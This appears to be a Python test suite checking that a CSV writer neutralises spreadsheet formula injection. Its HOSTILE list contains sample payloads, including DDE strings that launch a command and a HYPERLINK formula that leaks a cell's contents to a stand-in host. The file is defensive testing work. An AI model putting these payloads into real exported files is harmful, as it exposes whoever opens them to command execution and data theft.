"""No cell that we write is run by a spreadsheet, however it splits the line."""

import csv
import io
import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from vincula.cells import CellWriter, inert
from vincula.cli.change_output import write_rows
from vincula.cli.write_csv import CsvScores

RUN = set("=+-@\t\r\uff1d\uff0b\uff0d\uff20")
PLAIN_NUMBER = re.compile(r"[+-]?(\d+\.?\d*|\.\d+)([eE][+-]?\d+)?")
HOSTILE = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    " =1+1",
    '"=1+1"',
    "a;=1+1",
    "a,=1+1",
    "a\t=1+1",
    "a\n=1+1",
    '=HYPERLINK("http://elsewhere.example?x="&A1,"x")',
    "=cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@elsewhere",
    "\uff1d1+1",
    ';"=1+1"',
    "'=1+1;=1+1",
    "%0A=1+1\n=1+1",
]
texts = st.one_of(
    st.sampled_from(HOSTILE),
    st.text(alphabet="=+-@\t\r\n;,|\"' a1\uff1d", max_size=12),
    st.text(max_size=20),
)
cells = st.one_of(texts, st.integers(), st.floats(allow_nan=False), st.none())


def runs(text: str) -> list[str]:
    """Return the cells that some program would run, however it reads the file."""
    seen = [
        cell
        for delimiter in ",;\t|"
        for line in csv.reader(io.StringIO(text, newline=""), delimiter=delimiter)
        for cell in line
    ]
    return [
        cell
        for cell in seen
        if (bare := cell.lstrip(' "\n\x0b\x0c'))[:1] in RUN
        # A number of ours; where a program does not split at commas, the line after it.
        and not PLAIN_NUMBER.fullmatch(re.split(r'[," \r\n]', bare, maxsplit=1)[0])
    ]


def written(rows) -> str:
    file = io.StringIO(newline="")
    writer = CellWriter(file)
    for row in rows:
        writer.row(row)
    return file.getvalue()


@given(st.lists(st.lists(cells, min_size=1, max_size=3), min_size=1, max_size=3))
def test_no_cell_is_run(rows):
    assert not runs(written(rows))


@given(st.lists(texts, min_size=1, max_size=5))
def test_a_column_is_written_like_its_rows(column):
    file = io.StringIO(newline="")
    CellWriter(file).columns([column])
    assert file.getvalue() == written([text] for text in column)


# These come in quotes, which keep them together in any program.
QUOTED = {"a,=1+1", "a\n=1+1", ';"=1+1"', "%0A=1+1\n=1+1"}


@pytest.mark.parametrize("text", sorted(set(HOSTILE) - QUOTED))
def test_each_known_trick_is_seen_by_this_test_and_made_inert(text):
    raw = io.StringIO(newline="")
    csv.writer(raw, lineterminator="\n").writerow([text])
    assert runs(raw.getvalue())
    assert not runs(written([[text]]))


@given(st.one_of(st.integers(), st.floats(allow_nan=False, allow_infinity=False)))
def test_a_number_stays_a_number(value):
    assert written([[value]]) == f"{value}\n"
    assert type(value)(written([[str(value)]])) == value


@given(st.text(alphabet="abcäöü XYZ.!?()0123456789", min_size=1))
def test_plain_words_are_not_touched(text):
    assert inert(text) == text


def test_scores_and_change_are_written_so():
    file = io.StringIO(newline="")
    scores = CsvScores(file, ["=id", "x"])
    scores.write({"=id": ["=1+1"], "x": ["-7"]}, {})
    assert file.getvalue() == "'=id,x\n'=1+1,-7\n"
    file = io.StringIO(newline="")
    write_rows([{"id": "@ann", "rci": -1.5, "class": None, "better": True}], file)
    assert file.getvalue() == "id,rci,class,better\n'@ann,-1.5,,true\n"
